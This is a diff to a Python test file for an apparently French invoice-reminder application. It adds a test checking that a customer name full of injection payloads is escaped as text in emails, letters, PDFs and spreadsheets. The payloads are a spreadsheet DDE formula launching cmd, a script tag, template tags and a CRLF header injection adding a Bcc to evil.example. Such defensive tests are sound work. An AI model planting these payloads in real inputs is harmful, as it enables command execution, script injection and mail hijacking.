@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import io
+import re
+import zipfile
 from datetime import timedelta
 
 import fastexcel
@@ -301,3 +303,34 @@ def test_a_customer_with_nobody_of_its_own_is_reached_through_the_head_of_its_gr
     group(book)
     meet(book, "accounting", "siege@groupe.example", code="GROUPE")
     assert message_of(book, alice).recipient == "siege@groupe.example"
+
+
+ATTACK = "=cmd|'/C calc'!A0 <script>alert(1)</script> {{total}} {% include 'x' %} #panic() \r\nBcc: x@evil.example"
+
+
+def test_an_attack_in_a_debtors_name_is_text_in_every_place_it_is_written(book, alice):
+    Customer.objects.filter(code="MARTIN").update(
+        name=ATTACK, address="3 place du Marché", postcode="69002", city="Lyon"
+    )
+    ChannelSetting.objects.create(company=book, channel="letter", way="print")
+    words = Words("Rappel pour {{customer_name}}", "Bonjour {{customer_name}},\n\n{{items}}\n\n{{payment}}")
+    for channel in ("email", "letter"):
+        templates.save(book, Place("friendly", "fr", "", channel), words, alice, AT)
+    under(book, papers=["statement", "statement_xlsx"])
+    draft = draft_of(book, alice)
+    assert not draft.obstacle and "\n" not in draft.subject and "\r" not in draft.subject
+    assert draft.subject.startswith("Rappel pour =cmd|'/C calc'!A0 <script>") and "{{total}}" in draft.subject
+    assert "<script>" not in draft.html and "&lt;script&gt;" in draft.html and "{{total}}" in draft.body
+    assert "{% include 'x' %}" in draft.body and "#panic()" in text_of(draft.pdf)
+    (workbook,) = [paper for paper in draft.papers if paper.name.endswith(".xlsx")]
+    with zipfile.ZipFile(io.BytesIO(workbook.content)) as held:
+        assert not re.search(r"<f[ >]", held.read("xl/worksheets/sheet1.xml").decode())
+    PolicyVersion.objects.update(
+        content={"name": "maison", "levels": [{"key": "friendly", "days_overdue_min": 1, "channel": "letter"}]}
+    )
+    letter = draft_of(book, alice)
+    assert "#panic()" in text_of(letter.papers[0].content) and "<script>" in text_of(letter.papers[0].content)
+
+
+def text_of(pdf):
+    return " ".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
